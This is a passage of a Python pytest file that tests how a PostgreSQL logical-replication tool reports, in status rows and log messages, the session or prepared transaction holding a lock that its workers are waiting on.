        assert row.worker_type == "apply" and row.silent_since is not None
        assert row.waits_for.startswith(f"a lock that PID {holder.info.backend_pid} holds")
        holder.execute("ROLLBACK")
        p.until("SELECT count(*) FROM t WHERE v = 1", value=40, task=task)
        assert _seen(store, mirror, task, False).silent_since is None
        p.stop(task)
    assert said("units of")


@pytest.mark.long
@pytest.mark.parametrize(("mode", "adopt"), [("SHARE", False), ("ACCESS EXCLUSIVE", True)], ids=["copy", "adoption"])
def test_a_table_whose_synchronization_waits_for_a_lock_is_shown_with_the_holder_and_logged(
    mirrored, monkeypatch, mode, adopt
):
    log: list[tuple[str, str]] = []
    monkeypatch.setattr(lock_waits, "LOG_SECONDS", 0.0)
    _set(mirrored, "a", f"adopt = {adopt}")
    mirror = Mirror(
        mirrored.session, mirrored.store, mirrored.sub, mirrored.heartbeats, log=lambda *said: log.append(said)
    )
    relid = mirrored.relid("a")
    with closing(mirrored.subdb.connect(application_name="psql")) as holder:
        holder.execute(f"BEGIN; LOCK TABLE a IN {mode} MODE")
        task = mirrored.submit("sync", lambda name: mirrored.sync(name), ["a"])
        row = _seen(mirrored.store, mirror, task, True, relid)
        assert (row.worker_type, row.relid) == ("table synchronization", relid)
        assert row.waits_for.startswith(f"a lock that PID {holder.info.backend_pid} holds on table public.a (postgres")
        holder.execute("ROLLBACK")
    task.result()
    mirror.refresh(apply_alive=True, syncing=set())
    assert mirrored.store.workers(mirrored.subid) == []
    who = f'logical replication table synchronization worker for subscription "{mirrored.sub.name}", table "a"'
    (warned, waits), (logged, ended) = log
    assert (warned, logged) == ("WARNING", "LOG")
    assert str(waits).startswith(f"{who} waits for ") and str(ended) == f"{who} no longer waits"


def test_a_lock_of_a_prepared_transaction_is_told_as_such(mirrored):
    """It has no session that could be named."""
    gid = f"stranger_{mirrored.subid}"
    mirrored.subdb.execute(f"BEGIN; LOCK TABLE public.a; PREPARE TRANSACTION '{gid}'")
    name = f"pgsub {mirrored.subid} apply 1"
    with closing(mirrored.subdb.connect(application_name=name)) as worker:
        waiting = threading.Thread(target=worker.execute, args=("SELECT FROM public.a",))
        waiting.start()
        try:
            mirrored.until("SELECT count(*) FROM pg_locks WHERE NOT granted", value=1)
            found = lock_waits.locks(mirrored.session, mirrored.subid)
        finally:
            mirrored.subdb.execute(f"ROLLBACK PREPARED '{gid}'")
            waiting.join()
    assert found == {"apply": "a lock that a prepared transaction holds on table public.a"}


@pytest.mark.parametrize(
    ("name", "marker", "locked", "holder"),
    [
        ("pgsub_{}_734_1A2B", True, "TRUNCATE public.a", "the subscription's prepared transaction pgsub_{}_734_1A2B"),
        ("pgsub_{}_734_1A2B", False, "TRUNCATE public.a", "a prepared transaction"),
        ("other_{}_734_1A2B", True, "TRUNCATE public.a", "a prepared transaction"),
        ("pgsub_{}_734_1A2B", True, "LOCK TABLE public.a IN ROW EXCLUSIVE MODE", "a prepared transaction"),
    ],
    ids=["own", "no-marker", "another-name", "beside-the-holder"],
)
def test_a_lock_that_the_subscription_has_prepared_is_told_with_the_transactions_name(
    mirrored, name, marker, locked, holder
):
    subid = mirrored.subid
    gid = name.format(subid)
    mark = f"INSERT INTO pgsub.prepared_xact (subid, gid) VALUES ({subid}, '{gid}');" if marker else ""
    mirrored.subdb.execute(f"BEGIN; {mark} {locked}; PREPARE TRANSACTION '{gid}'")
    gids, wanted = [gid], "BEGIN; LOCK TABLE public.a IN SHARE UPDATE EXCLUSIVE MODE"
    if "MODE" in locked:  # somebody else's holds what the worker waits for
        gids.append(f"stranger_{subid}")
        mirrored.subdb.execute(f"{wanted}; PREPARE TRANSACTION '{gids[1]}'")
    try:
        with closing(mirrored.subdb.connect(application_name=f"pgsub {subid} apply 1")) as worker:
            waiting = threading.Thread(target=_wait_in_vain, args=(worker, wanted))
            waiting.start()
            mirrored.until("SELECT count(*) FROM pg_locks WHERE NOT granted", value=1)
            found = lock_waits.locks(mirrored.session, subid)
            worker.cancel()
            waiting.join()
    finally:
        for one in gids:
            mirrored.subdb.execute(f"ROLLBACK PREPARED '{one}'")
    assert found == {"apply": f"a lock that {holder.format(subid)} holds on table public.a"}
